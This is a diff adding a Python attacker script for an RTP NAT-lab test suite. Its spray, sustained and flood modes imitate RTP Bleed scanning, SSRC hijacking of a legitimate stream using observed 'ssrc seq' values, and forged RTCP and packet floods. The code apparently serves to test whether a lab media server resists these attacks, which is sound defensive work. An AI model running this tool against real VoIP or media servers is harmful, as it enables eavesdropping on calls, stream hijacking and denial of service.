@@ -1,0 +1,165 @@
+#!/usr/bin/python3
+"""The attacker of the NAT-lab attack tests (test-attack.sh), on the public
+segment.  It sends only to --server (the lab server's public address), real
+RTP and RTCP headers, and counts every datagram that comes back to it.
+
+Modes:
+  spray      as the RTP Bleed tools (rtpbleed, rtpnatscan) do: every 20 ms a
+             new random SSRC, sent as a single RTP packet or as a burst of 2-3
+             packets with consecutive sequence numbers (back to back, well
+             within 1 ms), plus a forged RTCP report with a random SSRC; each
+             round from one of --sockets source ports.
+  sustained  one source port, one SSRC, consecutive sequence numbers, --rate
+             packets/s, and RTCP (SR) from the same SSRC every 250 ms: a
+             well-formed stream.  With --copy-from FILE (the legitimate peer's
+             "ssrc seq", what an on-path observer sees) it switches to the
+             legitimate SSRC --copy-at seconds after it started, continuing its
+             own sequence numbers.
+  flood      --rate packets/s in all, spread over --sockets source ports on
+             each --ips address: RTP (random SSRC and sequence number per
+             packet) and, one in five, RTCP.
+
+key=value lines at the end: sent.rtp, sent.rtcp, rx (datagrams received on
+any attacker socket), rx.from, ssrc.first / ssrc.copied (sustained),
+t.first (monotonic time of the first packet).
+"""
+import argparse
+import os
+import random
+import select
+import signal
+import sys
+import time
+
+import rtplab
+
+
+def main():
+    ap = argparse.ArgumentParser()
+    ap.add_argument("mode", choices=["spray", "sustained", "flood"])
+    ap.add_argument("--server", required=True)
+    ap.add_argument("--rtp-port", type=int, default=5004, help="RTCP: +1")
+    ap.add_argument("--ips", default="0.0.0.0", help="comma-separated local addresses to send from")
+    ap.add_argument("--local-port", type=int, default=0, help="sustained: source port (RTCP: +1)")
+    ap.add_argument("--sockets", type=int, default=4, help="source ports per address")
+    ap.add_argument("--rate", type=float, default=50)
+    ap.add_argument("--seconds", type=float, default=10)
+    ap.add_argument("--ssrc", type=lambda v: int(v, 0), default=None)
+    ap.add_argument("--seq", type=int, default=None)
+    ap.add_argument("--copy-from")
+    ap.add_argument("--copy-at", type=float, default=-1)
+    a = ap.parse_args()
+
+    rnd = random.SystemRandom()
+    rtp_dst = (a.server, a.rtp_port)
+    rtcp_dst = (a.server, a.rtp_port + 1)
+    ips = a.ips.split(",")
+    if a.mode == "sustained":
+        socks = [rtplab.udp_socket(ips[0], a.local_port),
+                 rtplab.udp_socket(ips[0], a.local_port + 1 if a.local_port else 0)]
+    else:
+        socks = [rtplab.udp_socket(ip, 0) for ip in ips for _ in range(a.sockets)]
+
+    stop = []
+    signal.signal(signal.SIGINT, lambda *_: stop.append(1))
+    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
+
+    rx = dict(n=0, src=set())
+
+    def on_packet(data, addr):
+        rx["n"] += 1
+        rx["src"].add("%s:%d" % addr[:2])
+
+    sent = dict(rtp=0, rtcp=0)
+    ssrc = a.ssrc if a.ssrc is not None else rnd.getrandbits(32)
+    first_ssrc, copied = ssrc, None
+    seq = a.seq if a.seq is not None else rnd.getrandbits(16)
+    ts = rnd.getrandbits(32)
+    start = time.monotonic()
+    t_first = None
+
+    if a.mode == "spray":
+        interval = 0.020
+    elif a.mode == "sustained":
+        interval = 1.0 / a.rate
+    else:
+        interval = 0.010        # a batch of rate/100 packets every 10 ms
+    per_batch = max(1, round(a.rate * interval))
+    next_send = start
+    next_rtcp = start
+    rounds = 0
+
+    while not stop and time.monotonic() - start < a.seconds:
+        now = time.monotonic()
+        if now >= next_send:
+            t_first = t_first or now
+            if a.mode == "spray":
+                s = rnd.choice(socks)
+                ssrc = rnd.getrandbits(32)
+                seq = rnd.getrandbits(16)
+                ts = rnd.getrandbits(32)
+                for i in range(rnd.choice((1, 2, 3))):
+                    s.sendto(rtplab.rtp_packet(ssrc, seq + i, ts + 160 * i), rtp_dst)
+                    sent["rtp"] += 1
+                # Forged RTCP: its own random SSRC, half SR, half RR
+                r_ssrc = rnd.getrandbits(32)
+                if rounds % 2:
+                    s.sendto(rtplab.rtcp_sr(r_ssrc, ts, 1, 160), rtcp_dst)
+                else:
+                    s.sendto(rtplab.rtcp_rr(r_ssrc), rtcp_dst)
+                sent["rtcp"] += 1
+            elif a.mode == "sustained":
+                if (copied is None and a.copy_from and a.copy_at >= 0 and
+                        now - start >= a.copy_at and os.path.exists(a.copy_from)):
+                    with open(a.copy_from) as f:
+                        fields = f.read().split()
+                    if fields:
+                        ssrc = copied = int(fields[0])
+                socks[0].sendto(rtplab.rtp_packet(ssrc, seq, ts), rtp_dst)
+                sent["rtp"] += 1
+                seq = (seq + 1) & 0xFFFF
+                ts += rtplab.PCMU_SAMPLES
+                if now >= next_rtcp:
+                    socks[1].sendto(rtplab.rtcp_sr(ssrc, ts, sent["rtp"], 160 * sent["rtp"]), rtcp_dst)
+                    sent["rtcp"] += 1
+                    next_rtcp += 0.25
+            else:
+                for _ in range(per_batch):
+                    s = rnd.choice(socks)
+                    if rnd.random() < 0.2:
+                        s.sendto(rtplab.rtcp_rr(rnd.getrandbits(32)), rtcp_dst)
+                        sent["rtcp"] += 1
+                    else:
+                        s.sendto(rtplab.rtp_packet(rnd.getrandbits(32), rnd.getrandbits(16),
+                                                   rnd.getrandbits(32)), rtp_dst)
+                        sent["rtp"] += 1
+            rounds += 1
+            next_send += interval
+        wait = max(0.0, next_send - time.monotonic())
+        try:
+            ready, _, _ = select.select(socks, [], [], wait)
+        except InterruptedError:
+            ready = []
+        for s in ready:
+            rtplab.drain(s, on_packet)
+
+    end = time.monotonic() + 0.1
+    while time.monotonic() < end:
+        for s in socks:
+            rtplab.drain(s, on_packet)
+        time.sleep(0.01)
+
+    print(f"sent.rtp={sent['rtp']}")
+    print(f"sent.rtcp={sent['rtcp']}")
+    print(f"rx={rx['n']}")
+    print(f"rx.from={','.join(sorted(rx['src']))}")
+    print(f"t.first={t_first or 0:.6f}")
+    print(f"sources={','.join('%s:%d' % s.getsockname()[:2] for s in socks)}")
+    if a.mode == "sustained":
+        print(f"ssrc.first={first_ssrc}")
+        print(f"ssrc.copied={'' if copied is None else copied}")
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
